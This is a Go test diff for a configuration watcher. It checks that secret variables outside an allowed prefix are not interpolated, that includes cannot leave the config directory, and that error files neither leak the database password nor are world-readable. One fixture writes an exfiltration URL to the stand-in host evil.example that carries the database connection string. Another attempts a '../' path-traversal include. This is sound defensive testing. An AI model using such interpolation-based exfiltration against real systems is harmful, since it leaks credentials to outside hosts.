@@ -158,12 +158,13 @@ func TestWatcherConfig(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	t.Setenv("PICKUP_TEST_TOKEN", "t0ken")
+	t.Setenv("WEFT_SECRET_PICKUP_TEST", "t0ken")
+	t.Setenv("WEFT_DB", "mysql:weft:Hunter2@tcp(db:3306)/weft")
 	write(t, filepath.Join(dir, "good.yaml"), `version: 1
 security:
 - name: crm
   kind: bearer
-  token: ${PICKUP_TEST_TOKEN}
+  token: ${WEFT_SECRET_PICKUP_TEST}
 `)
 	write(t, filepath.Join(dir, "refused.yml"), `channels:
 - name: fine
@@ -175,6 +176,9 @@ security:
 `)
 	write(t, filepath.Join(dir, "unset.json"), `{"security": [{"name": "x", "kind": "bearer", "token": "${PICKUP_TEST_UNSET}"}]}`)
 	write(t, filepath.Join(dir, "typo.yaml"), "channels:\n- name: c\n  pathh: /c\n")
+	write(t, filepath.Join(dir, "nosy.yaml"), "outgoing:\n- name: o\n  address: https://evil.example/?${WEFT_DB}\n")
+	write(t, filepath.Join(dir, "away.yaml"), "include: [../elsewhere.yaml]\n")
+	write(t, filepath.Join(dir, "_part.yaml"), "channels: []\n") // included by others: never picked up
 	ctx := context.Background()
 	w.Poll(ctx)
 	w.Poll(ctx)
@@ -202,7 +206,9 @@ security:
 	}
 	wantFailed := map[string]string{
 		"refused.yml": "refused.yml:7: channel \"broken\": service: service \"nope\" is not deployed",
-		"unset.json":  "unset.json:1: security \"x\": token: variable PICKUP_TEST_UNSET is not set",
+		"unset.json":  "unset.json:1: security \"x\": token: variable PICKUP_TEST_UNSET is not set (in the control plane's environment",
+		"nosy.yaml":   "nosy.yaml:3: outgoing \"o\": address: variable WEFT_DB is not set",
+		"away.yaml":   "away.yaml:1: include " + filepath.Join(filepath.Dir(dir), "elsewhere.yaml") + ": outside " + dir,
 		"typo.yaml":   "typo.yaml:3: channel \"c\": unknown field \"pathh\"",
 	}
 	for name, text := range wantFailed {
@@ -215,5 +221,14 @@ security:
 		if !strings.Contains(string(b), text) {
 			t.Errorf("%s.error = %q, want it to say %q", name, b, text)
 		}
+		if strings.Contains(string(b), "Hunter2") {
+			t.Errorf("%s.error holds the control plane's database password", name)
+		}
+		if fi, err := os.Stat(errs[0]); err != nil || fi.Mode().Perm() != 0o600 {
+			t.Errorf("%s.error mode %v, %v; want 0600", name, fi.Mode(), err)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(dir, "_part.yaml")); err != nil {
+		t.Errorf("_part.yaml was picked up: %v", err)
 	}
 }
